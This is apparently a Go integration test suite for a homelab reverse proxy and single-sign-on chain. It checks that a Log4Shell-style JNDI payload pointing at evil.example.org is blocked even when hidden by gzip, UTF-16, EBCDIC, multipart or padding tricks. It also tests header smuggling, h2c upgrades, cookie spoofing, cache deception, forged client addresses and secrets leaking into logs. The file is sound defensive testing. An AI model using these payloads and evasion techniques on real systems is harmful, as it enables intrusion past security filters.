//go:build chain

package chain

import (
	"bytes"
	"compress/gzip"
	"encoding/binary"
	"net/http"
	"net/url"
	"os"
	"strings"
	"testing"
	"time"
	"unicode/utf16"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"homelab/tests/chain/internal/visitor"
)

// An attack that AppSec has a rule against, wherever in a body it sees it.
const attack = `{"x":"${jndi:ldap://evil.example.org/x}"}`

// utf16LE is a text in the encoding that many readers of JSON find out by themselves.
func utf16LE(text string) string {
	var out bytes.Buffer
	out.WriteString("\xff\xfe")
	for _, unit := range utf16.Encode([]rune(text)) {
		_ = binary.Write(&out, binary.LittleEndian, unit) // a buffer takes everything
	}
	return out.String()
}

func zipped(t *testing.T, text string) string {
	t.Helper()
	var out bytes.Buffer
	w := gzip.NewWriter(&out)
	_, err := w.Write([]byte(text))
	require.NoError(t, err)
	require.NoError(t, w.Close())
	return out.String()
}

// testUninspected sends attacks in such a way that the inspection would not see them.
func testUninspected(t *testing.T, s *stage, session ticket) {
	const form = "multipart/form-data; boundary=a"
	part := func(header, content string) string {
		return "--a\r\nContent-Disposition: form-data; name=\"x\"\r\n" + header + "\r\n" + content + "\r\n--a--\r\n"
	}
	cases := map[string]visitor.Request{
		"with an expectation, in the path": {URL: "/.env", Header: map[string]string{"Expect": "x"}},
		"with an expectation, in a body":   {Body: attack, Header: map[string]string{"Expect": "x"}},
		"with two expectations":            {URL: "/.env", Header: map[string]string{"Expect": "100-continue, x"}},
		"compressed":                       {Body: zipped(t, attack), Header: map[string]string{"Content-Encoding": "gzip"}},
		"compressed by another name":       {Body: zipped(t, attack), Header: map[string]string{"Content-Encoding": "x-gzip"}},
		"in UTF-16":                        {Body: utf16LE(attack), Header: map[string]string{"Content-Type": "application/json; charset=utf-16"}},
		"in UTF-16, undeclared":            {Body: utf16LE(attack)},
		"in EBCDIC":                        {Body: attack, Header: map[string]string{"Content-Type": "application/x-www-form-urlencoded; charset=ibm037"}},
		"between two boundaries":           {Body: part("", attack), Header: map[string]string{"Content-Type": form + "; boundary=b"}},
		"in a part in base64":              {Body: part("Content-Transfer-Encoding: base64\r\n", "JHtqbmRpOmxkYXA6Ly94fQ=="), Header: map[string]string{"Content-Type": form}},
		"behind the form":                  {Body: part("", "1") + attack, Header: map[string]string{"Content-Type": form}},
		"without a type":                   {Body: attack, Header: map[string]string{"Content-Type": " "}},
		"behind two megabytes":             {Body: strings.Repeat(" ", 2*megabyte) + attack},
		"behind nine megabytes":            {Body: strings.Repeat(" ", 9*megabyte) + attack},
	}
	for name, r := range cases {
		r.Method = http.MethodGet
		if r.Body != "" {
			r.Method, r.URL = http.MethodPost, "/upload"
		}
		for where, place := range map[string]struct {
			host string
			b    *visitor.Browser
		}{
			"behind the portal": {requests, session.give(t, s.cloudflare.From("203.0.113.50").Browser("h2"))},
			"at the portal":     {portal, s.cloudflare.From("203.0.113.51").Browser("h2")},
			"on the tailnet":    {films, s.tailnet.Browser("h2")},
		} {
			t.Run(name+" "+where, func(t *testing.T) {
				r := r
				r.URL = place.host + r.URL
				a, err := place.b.Do(t.Context(), r)
				s.refused(t, a, err)
				require.NoError(t, err)
				assert.Contains(t, []int{
					http.StatusForbidden, http.StatusExpectationFailed, http.StatusUnsupportedMediaType, http.StatusRequestEntityTooLarge,
				}, a.Status)
			})
		}
	}
	t.Run("what can be inspected passes", func(t *testing.T) {
		for name, r := range map[string]visitor.Request{
			"a form with a file": {Body: part("Content-Type: image/png\r\n", "\x89PNG\xff"), Header: map[string]string{"Content-Type": form}},
			"nine megabytes":     {Body: strings.Repeat(" ", 9*megabyte) + "{}"},
			"an expectation":     {Body: "{}", Header: map[string]string{"Expect": "100-continue"}},
			"bytes":              {Body: "\xff\xfe\x00", Header: map[string]string{"Content-Type": "application/octet-stream"}},
		} {
			r.Method, r.URL = http.MethodPost, requests+"/upload"
			a, err := session.give(t, s.cloudflare.Browser("h2")).Do(t.Context(), r)
			seen := s.served(t, "jellyseerr", a, err)
			assert.Equal(t, int64(len(r.Body)), seen.BodyBytes, name)
			assert.Empty(t, seen.Header.Get("Expect"), name)
		}
	})
}

// testHopByHop uses the headers that belong to a connection.
func testHopByHop(t *testing.T, s *stage, session ticket) {
	b := session.give(t, s.cloudflare.Browser("http/1.1"))
	t.Run("Connection does not take an identity away", func(t *testing.T) {
		for _, named := range []string{"Remote-User", "Remote-User, Remote-Groups", "close, remote-user", "X-Forwarded-For", "X-Real-IP", "X-Forwarded-Host"} {
			a, err := b.Do(t.Context(), visitor.Request{URL: requests + "/hop", Header: map[string]string{"Connection": named}})
			seen := s.served(t, "jellyseerr", a, err)
			assert.Equal(t, "family", seen.Header.Get("Remote-User"), named)
			assert.Equal(t, "users", seen.Header.Get("Remote-Groups"), named)
			assert.Equal(t, goodVisitor, seen.Header.Get("X-Forwarded-For"), named)
			assert.Equal(t, goodVisitor, seen.Header.Get("X-Real-Ip"), named)
		}
	})
	t.Run("no upgrade but to a WebSocket reaches a service", func(t *testing.T) {
		for _, protocol := range []string{"h2c", "websocket, h2c", "TLS/1.0", "websocket\r\nUpgrade: h2c"} {
			answers, err := s.cloudflare.Raw(t.Context(), "requests.example.com", "GET /upgrade HTTP/1.1\r\nHost: requests.example.com\r\n{cloudflare}"+session.line()+
				"Connection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\nUpgrade: "+protocol+"\r\n\r\n")
			require.NoError(t, err)
			for _, a := range answers {
				assert.NotEqual(t, http.StatusSwitchingProtocols, a.Status, protocol)
			}
			for _, seen := range s.Service("jellyseerr").Take() {
				assert.Empty(t, seen.Header.Values("Upgrade"), protocol)
				assert.Empty(t, seen.Header.Values("Http2-Settings"), protocol)
			}
		}
	})
	t.Run("no trailer reaches a service", func(t *testing.T) {
		for _, name := range []string{"Remote-User", "X-Anything"} {
			a, err := session.give(t, s.cloudflare.Browser("h2")).Do(t.Context(), visitor.Request{
				Method: http.MethodPost, URL: requests + "/trailer", Body: "{}", Trailer: map[string]string{name: "admin"},
			})
			if err == nil && a.Status == http.StatusOK {
				seen := s.served(t, "jellyseerr", a, err)
				assert.Empty(t, seen.Trailer, name)
				assert.Equal(t, []string{"family"}, seen.Header["Remote-User"])
				continue
			}
			s.refused(t, a, err)
		}
	})
}

// testCookies shows that the session stays between the visitor and the portal.
func testCookies(t *testing.T, s *stage, session ticket) {
	for _, spelling := range []string{
		sessionCookie + "=x", sessionCookie + " =x", sessionCookie + "\t=x", `"` + sessionCookie + `"=x`, strings.ToUpper(sessionCookie) + "=x", "own=1," + sessionCookie + "=x", sessionCookie,
	} {
		t.Run(strings.ReplaceAll(spelling, "\t", "(tab)"), func(t *testing.T) {
			a, err := s.tailnet.Browser("http/1.1").Do(t.Context(), visitor.Request{URL: films + "/cookies", Header: map[string]string{"Cookie": "one=1; " + spelling + "; two=2"}})
			assert.Equal(t, []string{"one=1; two=2"}, s.served(t, "jellyfin", a, err).Header.Values("Cookie"), "a service gets a session")
			for host, b := range map[string]*visitor.Browser{requests: session.give(t, s.cloudflare.Browser("h2")), films: s.tailnet.Browser("h2")} {
				a, err := b.Get(t.Context(), host+"/cookies?answer="+url.QueryEscape("Set-Cookie: "+spelling+"; Domain=example.com; Path=/")+"&answer="+url.QueryEscape("Set-Cookie: own=1; Path=/"))
				require.NoError(t, err)
				require.Equal(t, http.StatusOK, a.Status)
				assert.Equal(t, []string{"own=1; Path=/"}, a.Header.Values("Set-Cookie"), "a service sets the portal's cookie")
			}
			assert.Empty(t, s.reached(t, "jellyseerr").Header.Values("Cookie"), "a service gets a session")
			s.reached(t, "jellyfin")
		})
	}
}

// testCaches asks for pages by names that Cloudflare would cache for everybody.
func testCaches(t *testing.T, s *stage, session ticket) {
	known, private := session.give(t, s.cloudflare.Browser("h2")), s.tailnet.Browser("h2")
	for _, path := range []string{"/avatar/x.jpg", "/api/v1/auth/me/x.css", "/api/v1/auth/me;x.css", "/"} {
		for _, said := range []string{"CDN-Cache-Control: public, max-age=3600", "Cloudflare-CDN-Cache-Control: max-age=3600", "Cache-Control: public, max-age=3600"} {
			for b, host := range map[*visitor.Browser]string{known: requests, private: films, s.cloudflare.Browser("h2"): portal} {
				a, err := b.Get(t.Context(), host+path+"?answer="+url.QueryEscape(said))
				require.NoError(t, err)
				assert.Equal(t, []string{"no-store"}, a.Header.Values("Cloudflare-CDN-Cache-Control"), "%s%s", host, path)
				assert.Empty(t, a.Header.Values("CDN-Cache-Control"), "%s%s", host, path)
			}
		}
	}
	s.Service("jellyseerr").Take()
	s.Service("jellyfin").Take()
}

// testAddresses has Cloudflare's header say something else than an address.
func testAddresses(t *testing.T, s *stage, session ticket) {
	s.condemn(t)
	s.banned(t, s.cloudflare.From(condemned), session)
	for _, who := range []string{
		"::ffff:" + condemned, "::ffff:203.0.113.7", "64:ff9b::cb00:714d", "2002:cb00:714d::1", "", "garbage", "203.0.113.300", condemned + ":443", condemned + "%eth0",
		condemned + ", 203.0.113.7", "203.0.113.7, " + condemned, "127.0.0.1", "::1", "10.0.0.1", "100.64.0.1, 203.0.113.7",
	} {
		t.Run(who, func(t *testing.T) {
			for _, protocol := range []string{"h2", "http/1.1"} {
				a, err := session.give(t, s.cloudflare.From(who).Browser(protocol)).Get(t.Context(), requests+"/address")
				s.refused(t, a, err)
				require.NoError(t, err)
				assert.Equal(t, http.StatusBadRequest, a.Status)
			}
		})
	}
	for _, who := range []string{"2001:db9::7", "203.0.113.8"} {
		a, err := session.give(t, s.cloudflare.From(who).Browser("h2")).Get(t.Context(), requests+"/address")
		assert.Equal(t, []string{who}, s.served(t, "jellyseerr", a, err).Header["X-Forwarded-For"])
	}
}

// testLogs shows where requests are logged, and what of them.
func testLogs(t *testing.T, s *stage, session ticket) {
	const secret = "a-secret-that-nobody-logs"
	header := map[string]string{"X-Api-Key": secret, "X-Emby-Token": secret, "Authorization": "Bearer " + secret, "Referer": "https://x/?token=" + secret}
	s.Service("jellyseerr").Take()
	for path, b := range map[string]*visitor.Browser{"/by-somebody-known": session.give(t, s.cloudflare.Browser("h2")), "/by-a-stranger": s.cloudflare.Browser("h2")} {
		_, err := b.Do(t.Context(), visitor.Request{URL: requests + path + "?api_key=" + secret, Header: header})
		require.NoError(t, err)
	}
	// Once more while the service is away: the proxy logs what went wrong, with the request. And
	// where a stranger is sent: the portal's URL holds the one that he asked for.
	s.StopService("jellyseerr")
	for _, b := range []*visitor.Browser{session.give(t, s.cloudflare.Browser("h2")), s.cloudflare.Browser("h2")} {
		a, err := b.Do(t.Context(), visitor.Request{URL: requests + "/away?api_key=" + secret, Header: header})
		require.NoError(t, err)
		if to := a.Header.Get("Location"); to != "" {
			_, err = b.Get(t.Context(), to)
			require.NoError(t, err)
		}
	}
	require.NoError(t, s.StartService("jellyseerr"))
	var access, known string
	require.Eventually(t, func() bool {
		access, known = s.file(t, "/opt/homelab/caddy/logs/access.log"), s.file(t, "/opt/homelab/caddy/logs/known/access.log")
		return strings.Contains(access, "/by-a-stranger") && strings.Contains(known, "/by-somebody-known")
	}, 5*time.Second, 50*time.Millisecond)
	assert.NotContains(t, access, "/by-somebody-known", "the detectors take somebody whom the portal has let in for a suspect")
	assert.NotContains(t, known, "/by-a-stranger", "the detectors do not see a stranger")
	s.Service("jellyseerr").Take()
	for _, log := range []string{access, known, s.Log("caddy"), s.file(t, "/opt/homelab/authelia/logs/authelia.log")} {
		assert.NotContains(t, log, secret)
		assert.NotContains(t, log, session.value)
	}
}

func (s *stage) file(t *testing.T, path string) string {
	t.Helper()
	text, err := os.ReadFile(s.Deployment.Path(path))
	require.NoError(t, err)
	return string(text)
}
